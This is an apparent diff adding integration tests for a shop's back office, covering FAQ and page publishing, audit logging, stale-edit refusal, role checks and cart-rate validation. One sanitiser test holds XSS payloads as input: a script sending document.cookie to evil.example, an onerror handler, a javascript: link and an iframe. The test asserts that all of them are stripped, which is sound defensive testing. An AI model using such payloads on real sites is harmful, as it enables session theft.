@@ -1,0 +1,338 @@
+import { randomBytes } from "node:crypto";
+import { sql } from "kysely";
+import { beforeAll, describe, expect, it } from "vitest";
+import { hashPassword } from "~/models/accounts/passwords.server";
+import { auditTrail, type StaffActor } from "~/models/audit/audit.server";
+import { findPage } from "~/models/content/content.server";
+import { createFaqEntry, createPage, notificationStrip, saveFaqText, saveStrip } from "~/models/content/content-edit.server";
+import { faqEntry, faqPage } from "~/models/content/faq.server";
+import { faqPageJsonLd } from "~/models/content/json-ld";
+import { contentSitemapUrls } from "~/models/content/sitemap.server";
+import { db } from "~/models/db/db.server";
+import { seedDemoData } from "~/models/demo-data/index.server";
+import { saveCartRates, staffCartRates } from "~/models/settings/rates.server";
+import { siteForHost } from "~/models/sites/sites.server";
+import { confirmStaffCode, signInStaff } from "~/models/staff/sign-in.server";
+import { staffSession } from "~/models/staff/staff-sessions.server";
+import { newTotpSecret, totpCode } from "~/models/staff/two-factor";
+import { action as faqEntryAction } from "~/routes/admin/content-faq-entry";
+import { action as newFaqAction } from "~/routes/admin/content-faq";
+import { action as pageAction } from "~/routes/admin/content-page";
+import { action as stripAction } from "~/routes/admin/content-strip";
+import { action as settingsAction } from "~/routes/admin/settings";
+import { loader as faqEntryPage } from "~/routes/content/faq-entry";
+import { loader as faqListPage } from "~/routes/content/faq";
+import { staffSessionSetCookie } from "~/web/admin/staff-cookie.server";
+import { runAdmin } from "../../scripts/admin";
+
+// The back office's content and rates (docs/back-office.md), on the embedded
+// database and on PostgreSQL: the catalogue role writes an FAQ answer or a
+// page in a language, published or a draft, through the shop's sanitiser;
+// the shop shows it on the next request (and the shell's version moves, so
+// every server's kept shell follows); an edit made on an old page is
+// refused; every save is in the audit log. A cart rate that makes sea
+// dearer than air is saved only when confirmed.
+
+const ORIGIN = "http://localhost";
+const unique = () => randomBytes(4).toString("hex");
+let addresses = 0;
+let passwordHash: Promise<string> | undefined;
+
+beforeAll(async () => {
+  await seedDemoData(db(), { products: 10, seed: 7 });
+});
+
+/** A staff member of the role, signed in with both factors; their actor and their session's cookie. */
+async function signedInStaff(role: "owner" | "operator" | "support" | "catalogue" = "catalogue") {
+  const email = `staff-${unique()}@example.com`;
+  const secret = newTotpSecret();
+  const row = await db()
+    .insertInto("staff")
+    .values({ email, name: `Staff ${role}`, role, password_hash: await (passwordHash ??= hashPassword("a long staff password")), totp_secret: secret })
+    .returning("id")
+    .executeTakeFirstOrThrow();
+  const meta = { ip: `198.51.100.${++addresses}`, userAgent: "test" };
+  const pending = await signInStaff(email, "a long staff password", meta);
+  if (!pending.ok) throw new Error(pending.error);
+  const done = await confirmStaffCode((await staffSession(pending.sessionId))!, totpCode(secret), meta);
+  if (!done.ok) throw new Error(done.error);
+  const actor: StaffActor = { id: Number(row.id), email, ip: "192.0.2.1" };
+  return { actor, cookie: (await staffSessionSetCookie(done.sessionId)).split(";")[0]! };
+}
+
+type Outcome = { status: number; location: string | null; data: unknown };
+
+/** What an action answered: its status, where it redirects, its data. */
+async function outcome(run: () => Promise<unknown>): Promise<Outcome> {
+  try {
+    const result = await run();
+    if (result instanceof Response) return { status: result.status, location: result.headers.get("location"), data: null };
+    const init = (result as { init?: { status?: number } }).init;
+    return { status: init?.status ?? 200, location: null, data: (result as { data?: unknown }).data ?? result };
+  } catch (thrown) {
+    if (thrown instanceof Response) return { status: thrown.status, location: thrown.headers.get("location"), data: null };
+    const init = (thrown as { init?: { status?: number } }).init;
+    if (init?.status) return { status: init.status, location: null, data: null };
+    throw thrown;
+  }
+}
+
+const post = (path: string, fields: Record<string, string>, cookie: string) => {
+  const form = new FormData();
+  for (const [name, value] of Object.entries(fields)) form.set(name, value);
+  return new Request(`${ORIGIN}${path}`, { method: "POST", headers: { cookie, origin: ORIGIN }, body: form });
+};
+const context = { clientIp: "192.0.2.1" };
+const faqVersion = async (id: number) => (await db().selectFrom("faq_entries").select("updated_at").where("id", "=", id).executeTakeFirstOrThrow()).updated_at.toISOString();
+const shellVersion = async () => Number((await sql<{ version: string }>`select version::text from shell_state`.execute(db())).rows[0]!.version);
+
+/** A new FAQ entry made through its page, as the catalogue role makes one; its id. */
+async function newEntry(cookie: string, category = "shipping") {
+  const slug = `parcel-lockers-${unique()}`;
+  const made = await outcome(async () => newFaqAction({ request: post("/admin/content/faq", { intent: "create", slug, category }, cookie), params: {}, context }));
+  expect(made.status).toBe(303);
+  const id = Number(/\/admin\/content\/faq\/(\d+)\?created$/.exec(made.location ?? "")?.[1]);
+  expect(id).toBeGreaterThan(0);
+  return { id, slug };
+}
+
+const LATVIAN = {
+  intent: "save",
+  locale: "lv",
+  category: "shipping",
+  question: "Vai varu saņemt sūtījumu pakomātā?",
+  answer: "Jā. Izvēlieties pakomātu noformēšanas laikā.\n\n- Omniva\n- DPD\n\nSkatiet [piegādes noteikumus](/lv/faq).",
+  seoTitle: "Sūtījums pakomātā",
+  seoDescription: "Kā saņemt sūtījumu pakomātā Latvijā.",
+  status: "published",
+} as const;
+
+describe("an FAQ entry written in the back office", () => {
+  it("published in Latvian is on /lv/faq and its own page at once, with its FAQPage data, and the save is audited", async () => {
+    const { actor, cookie } = await signedInStaff("catalogue");
+    const { id, slug } = await newEntry(cookie);
+    const saved = await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: "" }, cookie), params: { id: String(id) }, context }));
+    // No version: the form is refused before anything is written.
+    expect(saved.status).toBe(400);
+    const done = await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: await faqVersion(id) }, cookie), params: { id: String(id) }, context }));
+    expect(done).toMatchObject({ status: 303, location: `/admin/content/faq/${id}?lang=lv&saved` });
+
+    // The page /lv/faq reads through its loader: the entry is under shipping, and in the FAQPage data.
+    const list = (await faqListPage({ request: new Request(`${ORIGIN}/lv/faq`), params: { locale: "lv" }, context: {} })) as Awaited<ReturnType<typeof faqListPage>>;
+    const shown = list.faq.entries.find((entry) => entry.slug === slug);
+    expect(shown).toMatchObject({ question: LATVIAN.question, category: "shipping" });
+    const jsonLd = faqPageJsonLd(list.faq.entries);
+    expect(jsonLd.mainEntity).toContainEqual({
+      "@type": "Question",
+      name: LATVIAN.question,
+      acceptedAnswer: { "@type": "Answer", text: "Jā. Izvēlieties pakomātu noformēšanas laikā.\n\nOmniva\nDPD\n\nSkatiet piegādes noteikumus." },
+    });
+    const own = (await faqEntryPage({ request: new Request(`${ORIGIN}/lv/faq/${slug}`), params: { locale: "lv", slug }, context: {} })) as Awaited<ReturnType<typeof faqEntryPage>>;
+    expect(own.entry).toMatchObject({ question: LATVIAN.question, seo_title: LATVIAN.seoTitle, seo_description: LATVIAN.seoDescription });
+    // Only in Latvian: the other languages have no text for it.
+    expect((await faqPage("en", null)).entries.map((entry) => entry.slug)).not.toContain(slug);
+    const site = await siteForHost("lv.localhost");
+    expect(site.languages.map((l) => l.iso_code)).toContain("lv");
+    expect((await contentSitemapUrls(site)).filter((url) => url.endsWith(`/faq/${slug}`))).toEqual([`${site.appUrl}/lv/faq/${slug}`]);
+
+    const trail = await auditTrail("faq", id);
+    expect(trail.map((entry) => [entry.action, entry.staff_email])).toEqual([
+      ["content.faq.save", actor.email],
+      ["content.faq.create", actor.email],
+    ]);
+    expect(trail[0]!.after).toMatchObject({ locale: "lv", question: LATVIAN.question, published: true, category: "shipping" });
+    expect(trail[0]!.before).toEqual({ category: "shipping" });
+  });
+
+  it("as a draft is not shown anywhere, and shows once published", async () => {
+    const { actor, cookie } = await signedInStaff("owner");
+    const { id, slug } = await newEntry(cookie, "ordering");
+    expect(await saveFaqText(actor, id, "lv", { ...LATVIAN, status: "draft" as const }, new Date(await faqVersion(id)))).toEqual({ ok: true, id });
+    expect((await faqPage("lv", null)).entries.map((entry) => entry.slug)).not.toContain(slug);
+    expect(await faqEntry("lv", slug)).toBeUndefined();
+    expect((await outcome(async () => faqEntryPage({ request: new Request(`${ORIGIN}/lv/faq/${slug}`), params: { locale: "lv", slug }, context: {} }))).status).toBe(404);
+    const site = await siteForHost("lv.localhost");
+    expect((await contentSitemapUrls(site)).filter((url) => url.includes(slug))).toEqual([]);
+
+    expect(await saveFaqText(actor, id, "lv", LATVIAN, new Date(await faqVersion(id)))).toEqual({ ok: true, id });
+    expect((await faqEntry("lv", slug))?.question).toBe(LATVIAN.question);
+    // …and a published text put back to draft goes again.
+    expect(await saveFaqText(actor, id, "lv", { ...LATVIAN, status: "draft" as const }, new Date(await faqVersion(id)))).toEqual({ ok: true, id });
+    expect(await faqEntry("lv", slug)).toBeUndefined();
+  });
+
+  it("keeps no HTML and no unsafe link: a script, an image's handler and a javascript: link are taken out as it is saved", async () => {
+    const { cookie } = await signedInStaff("catalogue");
+    const { id, slug } = await newEntry(cookie);
+    const answer = 'Read this<script>fetch("https://evil.example/?c="+document.cookie)</script>.\n\n<img src=x onerror="alert(1)">[Pay here](javascript:alert%281%29) or [see the FAQ](/lv/faq)\n\n<!-- hidden -->**Done**';
+    const done = await outcome(async () =>
+      faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, question: "Safe? <b>Yes</b>", answer, version: await faqVersion(id) }, cookie), params: { id: String(id) }, context }),
+    );
+    expect(done.status).toBe(303);
+    const stored = await faqEntry("lv", slug);
+    expect(stored).toMatchObject({ question: "Safe? Yes", answer: "Read this.\n\nPay here or [see the FAQ](/lv/faq)\n\n**Done**" });
+
+    // The preview is drawn from the same sanitised text, and saves nothing.
+    const before = await faqVersion(id);
+    const preview = await outcome(async () =>
+      faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, intent: "preview", answer: "<iframe src=//evil.example></iframe>Plain", version: before }, cookie), params: { id: String(id) }, context }),
+    );
+    expect(preview.status).toBe(200);
+    expect((preview.data as { preview: unknown }).preview).toEqual({ title: LATVIAN.question, body: "Plain", seoTitle: LATVIAN.seoTitle, seoDescription: LATVIAN.seoDescription });
+    expect(await faqVersion(id)).toBe(before);
+    expect((await faqEntry("lv", slug))?.answer).toContain("Read this.");
+  });
+
+  it("refuses an edit made on an older page, naming who changed it, and changes nothing", async () => {
+    const first = await signedInStaff("catalogue");
+    const second = await signedInStaff("owner");
+    const { id, slug } = await newEntry(first.cookie);
+    const seen = await faqVersion(id);
+    // Both open the page; the first saves.
+    const saved = await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: seen }, first.cookie), params: { id: String(id) }, context }));
+    expect(saved.status).toBe(303);
+    const stale = await outcome(async () =>
+      faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, question: "Overwritten?", version: seen }, second.cookie), params: { id: String(id) }, context }),
+    );
+    expect(stale.status).toBe(409);
+    expect(JSON.stringify(stale.data)).toContain(first.actor.email);
+    expect((await faqEntry("lv", slug))?.question).toBe(LATVIAN.question);
+    expect((await auditTrail("faq", id)).filter((entry) => entry.action === "content.faq.save")).toHaveLength(1);
+    // Straight to the use case, the same.
+    expect(await saveFaqText(second.actor, id, "lv", { ...LATVIAN, question: "Overwritten?" }, new Date(seen))).toMatchObject({ ok: false, error: "stale", by: first.actor.email });
+  });
+
+  it("a role without content is refused before anything is read", async () => {
+    const { cookie } = await signedInStaff("operator");
+    const entry = await createFaqEntry({ id: null, email: "command line", ip: null }, `other-${unique()}`, "other");
+    expect(entry.ok).toBe(true);
+    const id = entry.ok ? entry.id : 0;
+    expect((await outcome(async () => faqEntryAction({ request: post(`/admin/content/faq/${id}`, { ...LATVIAN, version: "x" }, cookie), params: { id: String(id) }, context }))).status).toBe(403);
+  });
+
+  it("npm run admin -- content faq-category is the same use case, audited as the command line", async () => {
+    const { cookie } = await signedInStaff("catalogue");
+    const { id, slug } = await newEntry(cookie, "ordering");
+    const quiet = { out: () => {}, err: () => {} };
+    expect(await runAdmin(["content", "faq-category", "--entry", slug, "--to", "returns"], quiet)).toBe(0);
+    expect((await db().selectFrom("faq_entries").select("category").where("id", "=", id).executeTakeFirstOrThrow()).category).toBe("returns");
+    expect((await auditTrail("faq", id))[0]).toMatchObject({ action: "content.faq.category", staff_email: "command line", before: { category: "ordering" }, after: { category: "returns" } });
+  });
+});
+
+describe("a content page written in the back office", () => {
+  it("published in a language is at its address at once, draft falls back to the shared page, and the shell's version moves", async () => {
+    const { actor, cookie } = await signedInStaff("catalogue");
+    const slug = `delivery-${unique()}`;
+    const created = await createPage(actor, slug, null);
+    expect(created.ok).toBe(true);
+    const pageId = created.ok ? created.id : 0;
+    const version = async () => (await db().selectFrom("pages").select("updated_at").where("id", "=", pageId).executeTakeFirstOrThrow()).updated_at.toISOString();
+    const text = { intent: "save", locale: "lv", title: "Piegāde", seoTitle: "", description: "", slug: `piegade-${unique()}`, body: "## Pa gaisu\n\n5–9 dienas.", status: "published" };
+    const shellBefore = await shellVersion();
+    const saved = await outcome(async () => pageAction({ request: post(`/admin/content/pages/${pageId}`, { ...text, version: await version() }, cookie), params: { id: String(pageId) }, context }));
+    expect(saved).toMatchObject({ status: 303, location: `/admin/content/pages/${pageId}?lang=lv&saved` });
+    expect(await shellVersion()).toBeGreaterThan(shellBefore);
+
+    const site = await siteForHost("lv.localhost");
+    expect(await findPage(site.id, "lv", text.slug)).toMatchObject({ kind: "page", page: { slug, title: "Piegāde", seoTitle: "Piegāde", body: "## Pa gaisu\n\n5–9 dienas." } });
+    // Its slug moves to its address in Latvian.
+    expect(await findPage(site.id, "lv", slug)).toEqual({ kind: "moved", pageSlug: slug, path: `/${text.slug}` });
+
+    // A site's own page of the same slug, as a draft, leaves the shared one shown.
+    const siteCode = (await db().selectFrom("sites").select("code").where("id", "=", site.id).executeTakeFirstOrThrow()).code;
+    const own = await createPage(actor, slug, siteCode);
+    expect(own.ok).toBe(true);
+    const ownId = own.ok ? own.id : 0;
+    const ownVersion = (await db().selectFrom("pages").select("updated_at").where("id", "=", ownId).executeTakeFirstOrThrow()).updated_at.toISOString();
+    const draft = await outcome(async () =>
+      pageAction({ request: post(`/admin/content/pages/${ownId}`, { ...text, title: "Tikai šai vietnei", slug: "", status: "draft", version: ownVersion }, cookie), params: { id: String(ownId) }, context }),
+    );
+    expect(draft.status).toBe(303);
+    expect(await findPage(site.id, "lv", text.slug)).toMatchObject({ kind: "page", page: { title: "Piegāde" } });
+
+    // Another page may not take the same address in the same language.
+    const other = await createPage(actor, `other-${unique()}`, null);
+    const otherId = other.ok ? other.id : 0;
+    const otherVersion = (await db().selectFrom("pages").select("updated_at").where("id", "=", otherId).executeTakeFirstOrThrow()).updated_at.toISOString();
+    const clash = await outcome(async () => pageAction({ request: post(`/admin/content/pages/${otherId}`, { ...text, version: otherVersion }, cookie), params: { id: String(otherId) }, context }));
+    expect(clash.status).toBe(409);
+
+    expect((await auditTrail("page", pageId)).map((entry) => entry.action)).toEqual(["content.page.save", "content.page.create"]);
+  });
+});
+
+describe("the notification strip", () => {
+  it("says what the site wrote in that language, nothing when emptied, the shop's own text before; each save audited and moving the shell's version", async () => {
+    const { actor, cookie } = await signedInStaff("catalogue");
+    const site = await siteForHost("lv.localhost");
+    const code = (await db().selectFrom("sites").select("code").where("id", "=", site.id).executeTakeFirstOrThrow()).code;
+    expect(await notificationStrip(site.id, "lv")).toBeNull();
+    const shellBefore = await shellVersion();
+    const saved = await outcome(async () => stripAction({ request: post("/admin/content/strip", { intent: "strip", site: code, locale: "lv", version: "", text: "Bezmaksas piegāde <b>no 50 €</b>" }, cookie), params: {}, context }));
+    expect(saved.status).toBe(303);
+    expect(await notificationStrip(site.id, "lv")).toBe("Bezmaksas piegāde no 50 €");
+    expect(await notificationStrip(site.id, "en")).toBeNull();
+    expect(await shellVersion()).toBeGreaterThan(shellBefore);
+
+    // A second first text, from a page that showed none, is stale.
+    const again = await outcome(async () => stripAction({ request: post("/admin/content/strip", { intent: "strip", site: code, locale: "lv", version: "", text: "Cits" }, cookie), params: {}, context }));
+    expect(again.status).toBe(409);
+    const row = await db().selectFrom("notification_strips").select("updated_at").where("site_id", "=", site.id).executeTakeFirstOrThrow();
+    expect(await saveStrip(actor, code, "lv", "", row.updated_at)).toEqual({ ok: true, id: site.id });
+    expect(await notificationStrip(site.id, "lv")).toBe("");
+    expect((await auditTrail("strip", `${code}:lv`)).map((entry) => [entry.action, entry.before, entry.after])).toEqual([
+      ["content.strip", { text: "Bezmaksas piegāde no 50 €" }, { text: "" }],
+      ["content.strip", null, { text: "Bezmaksas piegāde no 50 €" }],
+    ]);
+  });
+
+  it("two staff writing a site's first text at once: one is saved, the other refused as stale", async () => {
+    const [a, b] = await Promise.all([signedInStaff("catalogue"), signedInStaff("owner")]);
+    const site = await siteForHost("ee.localhost");
+    const code = (await db().selectFrom("sites").select("code").where("id", "=", site.id).executeTakeFirstOrThrow()).code;
+    const results = await Promise.all([saveStrip(a.actor, code, "ee", "Esimene", null), saveStrip(b.actor, code, "ee", "Teine", null)]);
+    expect(results.filter((result) => result.ok)).toHaveLength(1);
+    expect(results.filter((result) => !result.ok && result.error === "stale")).toHaveLength(1);
+    expect(await auditTrail("strip", `${code}:ee`)).toHaveLength(1);
+  });
+});
+
+describe("the cart's rates in the back office", () => {
+  const typed = { intent: "rates", airBase: "4,99", airPerKg: "6,50", airDivisor: "5000", airDiscount: "0", seaBase: "1,99", seaPerKg: "2,90", seaDivisor: "6000", seaDiscount: "10" };
+
+  it("refuses a sea rate that prices a parcel above air unless confirmed, naming the parcel; a confirmed one is saved and audited", async () => {
+    const { actor, cookie } = await signedInStaff("catalogue");
+    const [site] = await staffCartRates();
+    expect(site!.finding).toBeNull();
+    const versions = { site: site!.site, airVersion: new Date(site!.air.updatedAt).toISOString(), seaVersion: new Date(site!.sea.updatedAt).toISOString() };
+    const refused = await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions, seaDivisor: "1000" }, cookie), params: {}, context }));
+    expect(refused.status).toBe(409);
+    expect(JSON.stringify(refused.data)).toMatch(/Sea costs more than air for a parcel of [\d.,]+ k?g and [\d,]+ cm³/);
+    expect((await staffCartRates())[0]!.sea.volumetricDivisor).toBe(6000);
+
+    const confirmed = await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions, seaDivisor: "1000", confirm: "on" }, cookie), params: {}, context }));
+    expect(confirmed).toMatchObject({ status: 303, location: `/admin/settings?saved=${site!.site}#rates-${site!.site}` });
+    const after = (await staffCartRates())[0]!;
+    expect(after.sea.volumetricDivisor).toBe(1000);
+    expect(after.finding).not.toBeNull();
+    const [entry] = await auditTrail("shipping_rates", site!.site);
+    expect(entry).toMatchObject({ action: "settings.rates", staff_email: actor.email, before: { sea: { volumetricDivisor: 6000 } }, after: { sea: { volumetricDivisor: 1000 } } });
+    expect((entry!.after as { confirmedSeaAboveAir?: unknown }).confirmedSeaAboveAir).toMatchObject({ weightGrams: expect.any(Number) });
+
+    // The page that showed the old rates is stale now; put back from a fresh one.
+    expect(await saveCartRates(actor, site!.site, { air: after.air, sea: { ...after.sea, volumetricDivisor: 6000 } }, { air: new Date(site!.air.updatedAt), sea: new Date(site!.sea.updatedAt) }, false)).toMatchObject({ ok: false, error: "stale" });
+    expect(await saveCartRates(actor, site!.site, { air: after.air, sea: { ...after.sea, volumetricDivisor: 6000 } }, { air: after.air.updatedAt, sea: after.sea.updatedAt }, false)).toEqual({ ok: true });
+    expect((await staffCartRates())[0]!.finding).toBeNull();
+  });
+
+  it("answers 400 for a missing or mistyped field, and 403 for a role without settings", async () => {
+    const { cookie } = await signedInStaff("catalogue");
+    expect((await outcome(async () => settingsAction({ request: post("/admin/settings", { intent: "rates" }, cookie), params: {}, context }))).status).toBe(400);
+    const [site] = await staffCartRates();
+    const versions = { site: site!.site, airVersion: new Date(site!.air.updatedAt).toISOString(), seaVersion: new Date(site!.sea.updatedAt).toISOString() };
+    expect((await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions, airDiscount: "120" }, cookie), params: {}, context }))).status).toBe(400);
+    const support = await signedInStaff("support");
+    expect((await outcome(async () => settingsAction({ request: post("/admin/settings", { ...typed, ...versions }, support.cookie), params: {}, context }))).status).toBe(403);
+  });
+});
